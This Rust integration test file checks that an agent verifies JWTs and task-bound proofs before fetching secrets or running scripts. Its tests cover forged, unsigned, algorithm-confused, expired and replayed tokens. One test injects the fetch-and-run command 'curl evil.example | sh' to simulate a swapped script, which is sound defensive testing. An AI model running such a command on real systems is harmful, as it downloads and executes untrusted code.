//! `JWK_URL` enforcement through the real pipeline: a JWKS served on loopback, keys made
//! by openssl, real bash processes. The secrets provider counts its calls, so "refused
//! before any secret is fetched" is checked directly, and the script touches a file, so
//! "nothing ran" is too.

use async_trait::async_trait;
use runops_agent::env::BaseEnv;
use runops_agent::failure::TaskFailure;
use runops_agent::jwt::{JwtSettings, TaskAuthenticator};
use runops_agent::logs::spool::{Spool, TaskResult};
use runops_agent::pipeline::{PipelineContext, StopHandle, run_task};
use runops_agent::runners::RunnerRegistry;
use runops_agent::secrets::{Secrets, SecretsProvider, SecretsRegistry};
use runops_jwt::testing::*;
use runops_proto::agent::TaskOffer;
use runops_proto::{FailureReason, TaskStatus};
use serde_json::json;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

const CREATOR: &str = "ana@example.com";

/// Stands in for `env-var`: hands out one secret and counts how often it was asked.
struct CountingProvider {
    calls: Arc<AtomicUsize>,
}

#[async_trait]
impl SecretsProvider for CountingProvider {
    fn name(&self) -> &'static str {
        "env-var"
    }

    async fn fetch(&self, _offer: &TaskOffer) -> Result<Secrets, TaskFailure> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        Ok([("DB_NAME".to_string(), "demo".to_string())].into())
    }
}

struct Harness {
    dir: tempfile::TempDir,
    spool: Spool,
    ctx: PipelineContext,
    secret_fetches: Arc<AtomicUsize>,
}

fn harness(jwks: &JwksServer, issuer: Option<&str>, audience: Option<&str>) -> Harness {
    harness_with_max_age(jwks, issuer, audience, 3600)
}

fn harness_with_max_age(
    jwks: &JwksServer,
    issuer: Option<&str>,
    audience: Option<&str>,
    max_age_secs: u64,
) -> Harness {
    let dir = tempfile::tempdir().unwrap();
    let spool = Spool::open(dir.path()).unwrap();
    let tmp_root = dir.path().join("tmp");
    std::fs::create_dir(&tmp_root).unwrap();
    let calls = Arc::new(AtomicUsize::new(0));
    let mut secrets = SecretsRegistry::default();
    secrets.register(Arc::new(CountingProvider {
        calls: calls.clone(),
    }));
    let auth = TaskAuthenticator::new(&JwtSettings {
        jwk_url: jwks.url.clone(),
        issuer: issuer.map(str::to_string),
        audience: audience.map(str::to_string),
        email_claim: "email".into(),
        max_age_secs,
    })
    .unwrap();
    Harness {
        ctx: PipelineContext {
            runners: RunnerRegistry::with_defaults(),
            secrets,
            base_env: BaseEnv::from_process_env(),
            tmp_root,
            kill_grace: Duration::from_millis(500),
            authenticator: Some(Arc::new(auth)),
            log_store: None,
            redact_info_types: None,
            redact_phone_regions: None,
        },
        spool,
        dir,
        secret_fetches: calls,
    }
}

impl Harness {
    /// Runs a task of `CREATOR` carrying `jwt`; the script echoes a secret and leaves a
    /// marker file. Returns the result, the log, and whether the script ran.
    async fn run(&self, task_id: i64, jwt: Option<String>) -> (TaskResult, String, bool) {
        self.run_offer(&self.offer(task_id, jwt)).await
    }

    fn marker(&self, task_id: i64) -> std::path::PathBuf {
        self.dir.path().join(format!("ran-{task_id}"))
    }

    /// A task of `CREATOR` carrying `jwt`, created just now; its script echoes a secret
    /// and leaves a marker file.
    fn offer(&self, task_id: i64, jwt: Option<String>) -> TaskOffer {
        let marker = self.marker(task_id);
        TaskOffer {
            task_id,
            target: "demo".into(),
            kind: "bash".into(),
            script: format!("echo \"db=$DB_NAME\"; touch '{}'", marker.display()),
            message: None,
            secret_provider: None,
            secret_path: Some("MY_TARGET".into()),
            secret_mapping: None,
            redact: "none".into(),
            redact_keys: Vec::new(),
            public_keys: Vec::new(),
            custom_command: None,
            timeout_secs: 60,
            user_email: CREATOR.into(),
            user_groups: vec![],
            user_jwt: jwt,
            user_jwt_proof: None,
            created_at_ms: Some(chrono::Utc::now().timestamp_millis()),
            config: None,
            start_deadline_ms: 5000,
        }
    }

    /// Runs `offer`: the result, the log, and whether the script ran.
    async fn run_offer(&self, offer: &TaskOffer) -> (TaskResult, String, bool) {
        let task_id = offer.task_id;
        let marker = self.marker(task_id);
        let task = self.spool.task(task_id);
        let result = run_task(&self.ctx, offer, &StopHandle::new(), &task, |_| {})
            .await
            .expect("the spool works");
        let log = std::fs::read_to_string(task.log_path()).unwrap();
        (result, log, marker.exists())
    }

    fn fetches(&self) -> usize {
        self.secret_fetches.load(Ordering::SeqCst)
    }
}

/// Asserts the task was refused `unauthenticated` with `why` in its message, before any
/// secret was fetched and without running.
async fn assert_refused(h: &Harness, id: i64, jwt: Option<String>, why: &str) {
    assert_offer_refused(h, &h.offer(id, jwt), why).await;
}

/// [`assert_refused`] for a prepared offer.
async fn assert_offer_refused(h: &Harness, offer: &TaskOffer, why: &str) {
    let id = offer.task_id;
    let jwt = offer.user_jwt.clone();
    let before = h.fetches();
    let (result, log, ran) = h.run_offer(offer).await;
    assert_eq!(result.status, TaskStatus::Failure, "task {id}: {log}");
    assert_eq!(
        result.failure_reason,
        Some(FailureReason::Unauthenticated),
        "task {id}: {log}"
    );
    let message = result.failure_message.unwrap_or_default();
    assert!(
        message.contains(why),
        "task {id}: expected {why:?} in {message:?}"
    );
    assert!(message.contains("nothing ran"), "{message}");
    assert!(
        log.contains(why),
        "the reason is in the task's log too: {log}"
    );
    assert!(
        !ran,
        "task {id}: the script ran although the token was refused"
    );
    assert_eq!(
        h.fetches(),
        before,
        "task {id}: secrets were fetched before the token was checked"
    );
    if let Some(jwt) = jwt {
        let signature = jwt.rsplit('.').next().unwrap_or_default();
        for entry in walk(h.dir.path()) {
            let text =
                String::from_utf8_lossy(&std::fs::read(&entry).unwrap_or_default()).into_owned();
            assert!(
                !text.contains(&jwt) && (signature.len() < 16 || !text.contains(signature)),
                "the token was written to {}",
                entry.display()
            );
        }
    }
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

#[tokio::test]
async fn tasks_run_only_with_their_creators_valid_token_checked_before_any_secret() {
    let rsa = TestKey::rsa("rsa-1");
    let ec = TestKey::ec("ec-1");
    let forger = TestKey::rsa("rsa-1");
    let jwks = JwksServer::start(&[&rsa, &ec]);
    let h = harness(&jwks, None, None);
    let ana = claims_for(CREATOR, 300);

    for (id, token) in [(1, rsa.sign(&ana)), (2, ec.sign(&ana))] {
        let (result, log, ran) = h.run(id, Some(token.clone())).await;
        assert_eq!(result.status, TaskStatus::Success, "{result:?} {log}");
        assert_eq!(log, "db=demo\n");
        assert!(ran);
        for entry in walk(h.dir.path()) {
            let text = String::from_utf8_lossy(&std::fs::read(&entry).unwrap()).into_owned();
            assert!(
                !text.contains(&token),
                "the token was written to {}",
                entry.display()
            );
        }
    }
    assert_eq!(h.fetches(), 2);

    assert_refused(&h, 10, None, "it was created with an API token").await;
    assert_refused(
        &h,
        11,
        Some(rsa.sign(&claims_for(CREATOR, -600))),
        "the token expired at",
    )
    .await;
    let now = chrono::Utc::now().timestamp();
    let early = json!({"email": CREATOR, "nbf": now + 3600, "exp": now + 7200});
    assert_refused(
        &h,
        12,
        Some(ec.sign(&early)),
        "the token is not valid before",
    )
    .await;
    assert_refused(
        &h,
        13,
        Some(forger.sign(&ana)),
        "signature does not match key `rsa-1`",
    )
    .await;
    let bob = claims_for("bob@example.com", 300);
    assert_refused(
        &h,
        14,
        Some(tampered(&rsa.sign(&bob), &ana)),
        "signature does not match",
    )
    .await;
    assert_refused(
        &h,
        15,
        Some(unsigned_token("rsa-1", &ana)),
        "algorithm `none`",
    )
    .await;
    assert_refused(
        &h,
        16,
        Some(hs256_with_public_key(&rsa, &ana)),
        "algorithm `HS256`",
    )
    .await;
    assert_refused(
        &h,
        17,
        Some(rsa.sign(&bob)),
        "belongs to `bob@example.com` but the task was created by `ana@example.com`",
    )
    .await;
    let unknown = TestKey::ec("not-in-the-set");
    assert_refused(
        &h,
        18,
        Some(unknown.sign(&ana)),
        "key `not-in-the-set`, which is not in",
    )
    .await;
    let no_email = json!({"sub": "ana", "exp": now + 300});
    assert_refused(&h, 19, Some(rsa.sign(&no_email)), "has no `email` claim").await;
    assert_eq!(h.fetches(), 2, "no refused task fetched a secret");
}

#[tokio::test]
async fn issuer_and_audience_are_enforced_when_configured() {
    let rsa = TestKey::rsa("k1");
    let jwks = JwksServer::start(&[&rsa]);
    let h = harness(&jwks, Some("https://idp.example"), Some("runops"));
    let mut good = claims_for(CREATOR, 300);
    good["iss"] = json!("https://idp.example");
    good["aud"] = json!("runops");
    let (result, log, _) = h.run(1, Some(rsa.sign(&good))).await;
    assert_eq!(result.status, TaskStatus::Success, "{log}");

    let mut other_iss = good.clone();
    other_iss["iss"] = json!("https://other.example");
    assert_refused(
        &h,
        2,
        Some(rsa.sign(&other_iss)),
        "not by the expected issuer `https://idp.example`",
    )
    .await;
    let mut other_aud = good.clone();
    other_aud["aud"] = json!("grafana");
    assert_refused(
        &h,
        3,
        Some(rsa.sign(&other_aud)),
        "its `aud` does not include `runops`",
    )
    .await;
}

#[tokio::test]
async fn a_rotated_key_is_picked_up_without_restarting_the_agent() {
    let old = TestKey::rsa("2026-01");
    let new = TestKey::ec("2026-02");
    let jwks = JwksServer::start(&[&old]);
    let h = harness(&jwks, None, None);
    let ana = claims_for(CREATOR, 300);
    let (result, _, _) = h.run(1, Some(old.sign(&ana))).await;
    assert_eq!(result.status, TaskStatus::Success);

    jwks.set_keys(&[&new]);
    let (result, log, ran) = h.run(2, Some(new.sign(&ana))).await;
    assert_eq!(result.status, TaskStatus::Success, "{log}");
    assert!(ran);
    assert_eq!(jwks.fetches(), 2);
    assert_refused(
        &h,
        3,
        Some(old.sign(&ana)),
        "key `2026-01`, which is not in",
    )
    .await;
}

#[tokio::test]
async fn tokens_issued_after_their_task_or_longer_ago_than_the_max_age_are_refused() {
    let rsa = TestKey::rsa("k1");
    let jwks = JwksServer::start(&[&rsa]);
    let h = harness_with_max_age(&jwks, None, None, 600);
    let now = chrono::Utc::now().timestamp();
    let token_issued =
        |iat: i64| rsa.sign(&json!({"email": CREATOR, "iat": iat, "exp": now + 3600}));

    // Issued a few minutes ago, before its task: runs.
    let (result, log, ran) = h.run(1, Some(token_issued(now - 300))).await;
    assert_eq!(result.status, TaskStatus::Success, "{log}");
    assert!(ran);
    // A server that does not say when the task was created: only the age is checked.
    let mut offer = h.offer(2, Some(token_issued(now - 60)));
    offer.created_at_ms = None;
    let (result, log, _) = h.run_offer(&offer).await;
    assert_eq!(result.status, TaskStatus::Success, "{log}");

    // A task created an hour ago carrying a token issued now: not its creator's token.
    let mut offer = h.offer(3, Some(token_issued(now)));
    offer.created_at_ms = Some((now - 3600) * 1000);
    assert_offer_refused(&h, &offer, "after the task was created at").await;
    // Still valid (exp in an hour) but issued 20 minutes ago, with a max age of 10.
    assert_refused(
        &h,
        4,
        Some(token_issued(now - 1200)),
        "more than JWT_MAX_AGE_SECS (600 s) ago",
    )
    .await;
    let no_iat = json!({"email": CREATOR, "exp": now + 300});
    assert_refused(
        &h,
        5,
        Some(rsa.sign(&no_iat)),
        "has no `iat` (issued-at) claim",
    )
    .await;
    assert_refused(&h, 6, Some(token_issued(now + 600)), "issued in the future").await;
    // A `crit` header the verifier does not implement.
    let crit = rsa.sign_with_header(
        &json!({"alg": "RS256", "kid": "k1", "crit": ["exp"], "exp": now + 300}),
        &claims_for(CREATOR, 300),
    );
    assert_refused(&h, 7, Some(crit), "marks `exp` as critical").await;
}

fn binding(offer: &TaskOffer) -> runops_jwt::proof::TaskBinding<'_> {
    runops_jwt::proof::TaskBinding {
        task_id: offer.task_id,
        target: &offer.target,
        kind: &offer.kind,
        script: &offer.script,
    }
}

#[tokio::test]
async fn a_key_bound_token_runs_only_with_its_creators_proof_for_that_very_task() {
    let idp = TestKey::rsa("idp");
    let jwks = JwksServer::start(&[&idp]);
    let h = harness(&jwks, None, None);
    // The creator's CLI holds this key; the identity provider bound the token to it.
    let holder = TestKey::ec("holder");
    let key = holder.proof_key();
    let mut claims = claims_for(CREATOR, 300);
    claims["cnf"] = json!({"jkt": holder.thumbprint()});
    let token = idp.sign(&claims);

    let mut offer = h.offer(1, Some(token.clone()));
    offer.user_jwt_proof = Some(key.sign(&token, &binding(&offer)).unwrap());
    let (result, log, ran) = h.run_offer(&offer).await;
    assert_eq!(result.status, TaskStatus::Success, "{log}");
    assert!(ran);
    assert_eq!(h.fetches(), 1);
    // The same proof again (the server re-offering the task): refused, not run twice.
    let auth = h.ctx.authenticator.clone().unwrap();
    let again = auth.check(&offer).await.unwrap_err();
    assert_eq!(again.reason, FailureReason::Unauthenticated);
    assert!(again.message.contains("already used"), "{}", again.message);

    // The captured token alone.
    assert_refused(
        &h,
        2,
        Some(token.clone()),
        "carries no proof signed with that key",
    )
    .await;
    // A proof of task 3 attached to task 4.
    let mut offer = h.offer(4, Some(token.clone()));
    let other = h.offer(3, Some(token.clone()));
    offer.user_jwt_proof = Some(key.sign(&token, &binding(&other)).unwrap());
    assert_offer_refused(&h, &offer, "was made for task 3, not task 4").await;
    // A proof of this task, but the server swapped the script.
    let mut offer = h.offer(5, Some(token.clone()));
    offer.user_jwt_proof = Some(key.sign(&token, &binding(&offer)).unwrap());
    offer.script = format!("curl evil.example | sh; {}", offer.script);
    assert_offer_refused(&h, &offer, "another script").await;
    // Signed by a key that is not the one the token is bound to.
    let stranger = TestKey::ec("stranger").proof_key();
    let mut offer = h.offer(6, Some(token.clone()));
    offer.user_jwt_proof = Some(stranger.sign(&token, &binding(&offer)).unwrap());
    assert_offer_refused(&h, &offer, "but the identity token is bound to key").await;
    // A proof made with another token of the same user and key.
    let mut offer = h.offer(7, Some(token.clone()));
    let mut other_claims = claims.clone();
    other_claims["jti"] = json!("another");
    let other_token = idp.sign(&other_claims);
    offer.user_jwt_proof = Some(key.sign(&other_token, &binding(&offer)).unwrap());
    assert_offer_refused(&h, &offer, "another identity token").await;
    // A confirmation method the agent cannot check.
    let mut mtls = claims_for(CREATOR, 300);
    mtls["cnf"] = json!({"x5t#S256": "bwcK0esc3ACC3DB2Y5_lESsXE8o9ltc05O89jdN-dg2"});
    assert_refused(&h, 8, Some(idp.sign(&mtls)), "only `jkt`").await;
    assert_eq!(h.fetches(), 1, "no refused task fetched a secret");
}
